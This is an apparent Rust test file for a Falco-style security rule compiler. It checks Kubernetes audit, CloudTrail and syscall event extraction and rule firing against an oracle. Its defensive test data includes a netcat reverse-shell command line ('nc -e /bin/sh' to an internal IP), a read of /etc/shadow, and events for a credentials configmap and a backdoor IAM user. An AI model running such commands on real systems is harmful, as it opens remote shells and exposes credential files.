//! Extractors on realistic k8s audit and CloudTrail events (testdata/events), and the
//! interpreter on the upstream k8s_audit / aws_cloudtrail rulesets (skipped without the
//! corpus): expected rules fire, and the IR interpreter agrees with the AST oracle on every
//! rule × event.

mod common;
use common::corpus_dir;

use std::path::Path;

use rulec::ast_eval;
use rulec::lower::lower_outcome;
use rulec::schema::Registry;
use rulec::{Analysis, LoadOptions};
use rulec_runtime::event::{Event, FieldRef, Val};
use rulec_runtime::extract::JsonEvent;
use rulec_runtime::interp::Interpreter;

fn events(source: &str, file: &str) -> Vec<JsonEvent> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../testdata/events")
        .join(file);
    let text = std::fs::read_to_string(p).expect("testdata readable");
    JsonEvent::parse_many(source, &text).expect("valid JSON")
}

fn field(source: &str, text: &str) -> FieldRef {
    let s = Registry::get().source(source).expect("source");
    FieldRef::resolve(s, text).expect("known field")
}

fn get(e: &JsonEvent, f: &str) -> Option<Vec<String>> {
    e.extract(&field(&e.source, f))
        .map(|v| v.iter().map(Val::to_text).collect())
}

fn one(e: &JsonEvent, f: &str) -> Option<String> {
    let v = get(e, f)?;
    assert_eq!(v.len(), 1, "{f}: {v:?}");
    v.into_iter().next()
}

#[test]
fn k8s_audit_fields() {
    let ev = events("k8s_audit", "k8s_audit.json");
    let e = &ev[0];
    assert_eq!(one(e, "ka.verb").as_deref(), Some("create"));
    assert_eq!(one(e, "ka.user.name").as_deref(), Some("alice"));
    assert_eq!(
        get(e, "ka.user.groups").unwrap_or_default(),
        ["dev", "system:authenticated"]
    );
    assert_eq!(one(e, "ka.target.resource").as_deref(), Some("pods"));
    assert_eq!(one(e, "ka.target.namespace").as_deref(), Some("default"));
    assert_eq!(one(e, "ka.target.name").as_deref(), Some("priv"));
    assert_eq!(one(e, "ka.target.subresource"), None);
    assert_eq!(one(e, "ka.auth.decision").as_deref(), Some("allow"));
    assert_eq!(one(e, "ka.response.code").as_deref(), Some("201"));
    assert_eq!(one(e, "ka.resp.name").as_deref(), Some("priv"));
    assert_eq!(one(e, "ka.stage").as_deref(), Some("ResponseComplete"));
    assert_eq!(
        one(e, "ka.uri.param[fieldManager]").as_deref(),
        Some("kubectl-client-side-apply")
    );
    assert_eq!(
        get(e, "ka.req.pod.containers.image").unwrap_or_default(),
        [
            "nginx:1.25",
            "registry.local:5000/tools/busybox@sha256:0123"
        ]
    );
    assert_eq!(
        get(e, "ka.req.pod.containers.image.repository").unwrap_or_default(),
        ["nginx", "registry.local:5000/tools/busybox"]
    );
    assert_eq!(
        one(e, "ka.req.pod.containers.image[1]").as_deref(),
        Some("registry.local:5000/tools/busybox@sha256:0123")
    );
    assert_eq!(one(e, "ka.req.pod.containers.image[5]"), None);
    assert_eq!(
        get(e, "ka.req.pod.containers.privileged").unwrap_or_default(),
        ["true", "false"]
    );
    assert_eq!(
        get(e, "ka.req.pod.containers.eff_run_as_user").unwrap_or_default(),
        ["1000", "0"]
    );
    assert_eq!(
        get(e, "ka.req.pod.containers.add_capabilities").unwrap_or_default(),
        ["NET_ADMIN", "SYS_TIME"]
    );
    assert_eq!(
        get(e, "ka.req.pod.containers.host_port").unwrap_or_default(),
        ["8080"]
    );
    assert_eq!(
        get(e, "ka.req.pod.initContainers.image").unwrap_or_default(),
        ["alpine:3"]
    );
    assert_eq!(get(e, "ka.req.pod.ephemeralContainers.image"), None);
    assert_eq!(one(e, "ka.req.pod.host_network").as_deref(), Some("true"));
    assert_eq!(one(e, "ka.req.pod.host_pid"), None);
    assert_eq!(
        get(e, "ka.req.pod.volumes.hostpath").unwrap_or_default(),
        ["/var/run/docker.sock"]
    );
    assert_eq!(
        get(e, "ka.req.pod.volumes.volume_type").unwrap_or_default(),
        ["hostPath", "configMap"]
    );
    assert_eq!(
        one(e, "ka.req.container.privileged").as_deref(),
        Some("true")
    );
    assert_eq!(
        one(e, "jevt.value[/stage]").as_deref(),
        Some("ResponseComplete")
    );
    assert_eq!(
        one(e, "json.value[/requestObject/spec/containers/0/name]").as_deref(),
        Some("app")
    );
    assert_eq!(one(e, "jevt.value[/nope]"), None);
    assert!(one(e, "jevt.obj").is_some_and(|o| o.starts_with('{')));
    assert_eq!(
        one(e, "jevt.rawtime").as_deref(),
        Some("1714557600123456000")
    );
    assert_eq!(
        one(e, "evt.time.iso8601").as_deref(),
        Some("2024-05-01T10:00:00.123456000Z")
    );
    assert_eq!(one(e, "evt.source").as_deref(), Some("k8s_audit"));
    assert_eq!(get(e, "ka.sourceips").unwrap_or_default(), ["10.0.0.7"]);
    let exec = &ev[1];
    assert_eq!(one(exec, "ka.target.subresource").as_deref(), Some("exec"));
    assert_eq!(one(exec, "ka.uri.param[command]").as_deref(), Some("sh"));
    let cm = &ev[2];
    assert!(one(cm, "ka.req.configmap.obj").is_some_and(|o| o.contains("aws_access_key_id")));
    assert_eq!(one(cm, "ka.req.configmap.name").as_deref(), Some("creds"));
    let crb = &ev[3];
    assert_eq!(
        one(crb, "ka.req.binding.role").as_deref(),
        Some("cluster-admin")
    );
    assert_eq!(
        get(crb, "ka.req.binding.subjects.user_names").unwrap_or_default(),
        ["mallory"]
    );
    assert_eq!(
        get(crb, "ka.req.binding.subjects.serviceaccount_ns_names").unwrap_or_default(),
        ["ci:builder"]
    );
    assert_eq!(
        get(crb, "ka.req.binding.subjects.group_names").unwrap_or_default(),
        ["interns"]
    );
    assert_eq!(
        get(crb, "ka.req.binding.subjects").map(|v| v.len()),
        Some(3)
    );
    let cr = &ev[4];
    assert_eq!(
        get(cr, "ka.req.role.rules.verbs").unwrap_or_default(),
        ["get", "create", "list"]
    );
    assert_eq!(
        get(cr, "ka.req.role.rules.resources").unwrap_or_default(),
        ["pods", "pods/exec", "*"]
    );
    assert_eq!(
        get(cr, "ka.req.role.rules.apiGroups").unwrap_or_default(),
        ["", "apps"]
    );
    let svc = &ev[7];
    assert_eq!(one(svc, "ka.req.service.type").as_deref(), Some("NodePort"));
    assert_eq!(
        get(svc, "ka.req.service.ports").unwrap_or_default(),
        [r#"{"nodePort":30080,"port":80}"#]
    );
}

#[test]
fn cloudtrail_fields() {
    let ev = events("aws_cloudtrail", "cloudtrail.json");
    let login = &ev[0];
    assert_eq!(one(login, "ct.name").as_deref(), Some("ConsoleLogin"));
    assert_eq!(one(login, "ct.user").as_deref(), Some("alice"));
    assert_eq!(
        one(login, "ct.user.identitytype").as_deref(),
        Some("IAMUser")
    );
    assert_eq!(one(login, "ct.srcip").as_deref(), Some("198.51.100.7"));
    assert_eq!(one(login, "ct.region").as_deref(), Some("us-east-1"));
    assert_eq!(one(login, "ct.error"), None);
    assert_eq!(one(login, "ct.shortsrc").as_deref(), Some("signin"));
    assert_eq!(one(login, "ct.readonly").as_deref(), Some("false"));
    assert_eq!(
        one(login, "json.value[/additionalEventData/MFAUsed]").as_deref(),
        Some("No")
    );
    assert_eq!(
        one(login, "json.value[/responseElements/ConsoleLogin]").as_deref(),
        Some("Success")
    );
    assert_eq!(one(login, "ct.request"), None);
    let cu = &ev[1];
    assert_eq!(one(cu, "ct.user").as_deref(), Some("deployer"));
    assert_eq!(one(cu, "ct.originaluser").as_deref(), Some("ci-session"));
    assert_eq!(one(cu, "ct.request.username").as_deref(), Some("backdoor"));
    assert_eq!(
        one(cu, "ct.user.arn").as_deref(),
        Some("arn:aws:sts::123456789012:assumed-role/deployer/ci-session")
    );
    let pab = &ev[2];
    assert_eq!(one(pab, "s3.bucket").as_deref(), Some("data-bucket"));
    assert_eq!(
        one(pab, "ct.request.host").as_deref(),
        Some("data-bucket.s3.amazonaws.com")
    );
    assert_eq!(
        one(
            pab,
            "json.value[/requestParameters/PublicAccessBlockConfiguration/BlockPublicAcls]"
        )
        .as_deref(),
        Some("false")
    );
    assert_eq!(
        one(pab, "json.value[/requestParameters/publicAccessBlock]").as_deref(),
        Some("")
    );
    let get_obj = &ev[3];
    assert_eq!(one(get_obj, "ct.error").as_deref(), Some("AccessDenied"));
    assert_eq!(one(get_obj, "ct.user").as_deref(), Some("root"));
    assert_eq!(
        one(get_obj, "s3.uri").as_deref(),
        Some("s3://data-bucket/reports/q1.csv")
    );
    let bytes = get_obj
        .extract(&field("aws_cloudtrail", "s3.bytes"))
        .expect("s3.bytes");
    assert_eq!(bytes, vec![Val::U64(2048)]);
    assert_eq!(one(get_obj, "s3.cnt.get").as_deref(), Some("1"));
    assert_eq!(one(get_obj, "evt.num").as_deref(), Some("4"));
}

/// Runs `file` on `evs`: per event the matching rule names; asserts IR == AST oracle.
fn run_corpus(dir: &Path, file: &str, evs: &[JsonEvent]) -> Vec<Vec<String>> {
    let mut a = Analysis::new(LoadOptions::default());
    a.add_file(
        file,
        std::fs::read_to_string(dir.join(file)).expect("corpus readable"),
    );
    let out = a.load();
    assert!(out.successful(), "{:?}", out.unique_diagnostics());
    let progs = lower_outcome(&out);
    assert_eq!(progs.len(), 1);
    let p = &progs[0];
    assert!(p.skipped.is_empty(), "{:?}", p.skipped);
    let schema = Registry::get().source(&p.source).expect("schema");
    let mut it = Interpreter::new(p);
    let mut result = Vec::new();
    for e in evs {
        let m = it.matching_rules(e);
        let names: Vec<String> = m.iter().map(|&r| p.rules[r].name.clone()).collect();
        // Oracle agreement on every enabled rule.
        for cr in &out.compiled.rules {
            let info = &out.collection.rules[cr.rule];
            if !info.enabled {
                continue;
            }
            let Some(ast) = &cr.ast else { continue };
            let want = ast_eval::eval(schema, cr.typed.as_ref(), ast, e);
            assert_eq!(
                want,
                names.contains(&info.name),
                "{} on event {}",
                info.name,
                e.num
            );
        }
        for al in rulec_runtime::output::Alert::for_matches(&mut it, e, "test-host") {
            assert!(!al.output.contains("%"), "{}", al.output);
        }
        result.push(names);
    }
    result
}

#[test]
fn k8s_audit_corpus_rules_fire() {
    let Some(dir) = corpus_dir() else { return };
    let evs = events("k8s_audit", "k8s_audit.json");
    let m = run_corpus(&dir, "k8s_audit_rules.yaml", &evs);
    let has = |i: usize, r: &str| {
        assert!(
            m[i].iter().any(|x| x == r),
            "event {i}: {r} not in {:?}",
            m[i]
        )
    };
    has(0, "Create Privileged Pod");
    has(0, "Create Sensitive Mount Pod");
    has(0, "Create HostNetwork Pod");
    has(0, "Disallowed K8s User");
    has(1, "Attach/Exec Pod");
    has(2, "Create/Modify Configmap With Private Credentials");
    has(3, "Attach to cluster-admin Role");
    has(4, "ClusterRole With Wildcard Created");
    has(4, "ClusterRole With Pod Exec Created");
    has(4, "ClusterRole With Write Privileges Created");
    has(5, "Anonymous Request Allowed");
    has(7, "Create NodePort Service");
    assert!(
        !m[0].iter().any(|r| r == "Create HostPid Pod"),
        "{:?}",
        m[0]
    );
    assert!(m[6].is_empty(), "{:?}", m[6]);
}

#[test]
fn cloudtrail_corpus_rules_fire() {
    let Some(dir) = corpus_dir() else { return };
    let evs = events("aws_cloudtrail", "cloudtrail.json");
    let m = run_corpus(&dir, "aws_cloudtrail_rules.yaml", &evs);
    assert!(
        m[0].iter().any(|r| r == "Console Login Without MFA"),
        "{:?}",
        m[0]
    );
    assert!(m[1].iter().any(|r| r == "Create AWS user"), "{:?}", m[1]);
    assert!(
        m[2].iter()
            .any(|r| r == "Delete Bucket Public Access Block"),
        "{:?}",
        m[2]
    );
    assert!(m[3].is_empty(), "{:?}", m[3]);
}

/// Loads the corpus falco_rules.yaml; returns the load and its lowered syscall program.
fn load_syscall_corpus(dir: &Path) -> (rulec::LoadOutcome, rulec::lower::Program) {
    let file = "falco_rules.yaml";
    let mut a = Analysis::new(LoadOptions::default());
    a.add_file(
        file,
        std::fs::read_to_string(dir.join(file)).expect("corpus readable"),
    );
    let out = a.load();
    let p = lower_outcome(&out)
        .into_iter()
        .find(|p| p.source == "syscall")
        .expect("syscall program");
    (out, p)
}

#[test]
fn syscall_corpus_lowers_and_agrees_with_oracle() {
    use rulec_runtime::event::FieldMapEvent;
    let Some(dir) = corpus_dir() else { return };
    let (out, p) = load_syscall_corpus(&dir);
    let p = &p;
    assert!(p.skipped.is_empty(), "{:?}", p.skipped);
    let enabled = out
        .compiled
        .rules
        .iter()
        .filter(|r| r.ast.is_some() && out.collection.rules[r.rule].enabled)
        .count();
    assert_eq!(p.rules.len(), enabled);
    let schema = Registry::get().source("syscall").expect("schema");
    let events = [
        FieldMapEvent::syscall([
            ("evt.type", "openat"),
            ("evt.dir", "<"),
            ("evt.is_open_read", "true"),
            ("fd.typechar", "f"),
            ("fd.num", "3"),
            ("fd.name", "/etc/shadow"),
            ("proc.name", "cat"),
            ("proc.pname", "bash"),
            ("proc.cmdline", "cat /etc/shadow"),
            ("container.id", "host"),
            ("user.name", "root"),
        ]),
        FieldMapEvent::syscall([
            ("evt.type", "execve"),
            ("evt.dir", "<"),
            ("evt.arg.res", "0"),
            ("proc.name", "nc"),
            ("proc.exe", "nc"),
            ("proc.args", "-e /bin/sh 10.0.0.1 4444"),
            ("proc.cmdline", "nc -e /bin/sh 10.0.0.1 4444"),
            ("container.id", "abc123"),
            ("proc.tty", "0"),
        ]),
    ];
    let mut it = Interpreter::new(p);
    for e in &events {
        let m = it.matching_rules(e);
        let names: Vec<&str> = m.iter().map(|&r| p.rules[r].name.as_str()).collect();
        println!("{:?}: {names:?}", rulec_runtime::event::Event::evt_type(e));
        for cr in &out.compiled.rules {
            let info = &out.collection.rules[cr.rule];
            let (true, Some(ast)) = (info.enabled, &cr.ast) else {
                continue;
            };
            let in_group = p
                .rules_for(rulec_runtime::event::Event::evt_type(e))
                .iter()
                .any(|&r| p.rules[r as usize].name == info.name);
            let want = in_group && ast_eval::eval(schema, cr.typed.as_ref(), ast, e);
            assert_eq!(want, names.contains(&info.name.as_str()), "{}", info.name);
        }
    }
    println!("{} rules, {:?}", p.rules.len(), it.stats);
    assert!(
        it.stats.rules_evaluated < 2 * p.rules.len() as u64,
        "{:?}",
        it.stats
    );
}

#[test]
fn syscall_mix_fires_only_the_attacks_and_agrees_with_oracle() {
    use rulec_runtime::event::FieldMapEvent;
    let Some(dir) = corpus_dir() else { return };
    let (out, p) = load_syscall_corpus(&dir);
    let p = &p;
    let schema = Registry::get().source("syscall").expect("schema");
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../testdata/events/syscall_mix.json"),
    )
    .expect("testdata readable");
    let events = FieldMapEvent::parse_many("syscall", &text).expect("valid JSON");
    assert!(events.len() >= 40, "{}", events.len());
    let mut it = Interpreter::new(p);
    let mut typed_it = Interpreter::new(p);
    let mut fired = Vec::new();
    for e in &events {
        let m = it.matching_rules(e);
        let typed = rulec_runtime::event::TypedEvent::new(e.clone());
        assert_eq!(typed_it.matching_rules(&typed), m, "typed {e:?}");
        let names: Vec<&str> = m.iter().map(|&r| p.rules[r].name.as_str()).collect();
        for cr in &out.compiled.rules {
            let info = &out.collection.rules[cr.rule];
            let (true, Some(ast)) = (info.enabled, &cr.ast) else {
                continue;
            };
            let in_group = p
                .rules_for(e.evt_type())
                .iter()
                .any(|&r| p.rules[r as usize].name == info.name);
            let want = in_group && ast_eval::eval(schema, cr.typed.as_ref(), ast, e);
            assert_eq!(want, names.contains(&info.name.as_str()), "{}", info.name);
        }
        fired.extend(names.into_iter().map(str::to_owned));
    }
    fired.sort();
    assert_eq!(
        fired,
        [
            "Clear Log Activities",
            "Contact K8S API Server From Container",
            "Directory traversal monitored file read",
            "Netcat Remote Code Execution in Container",
            "Read sensitive file untrusted",
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "Search Private Keys or Passwords",
            "Terminal shell in container",
        ]
    );
}
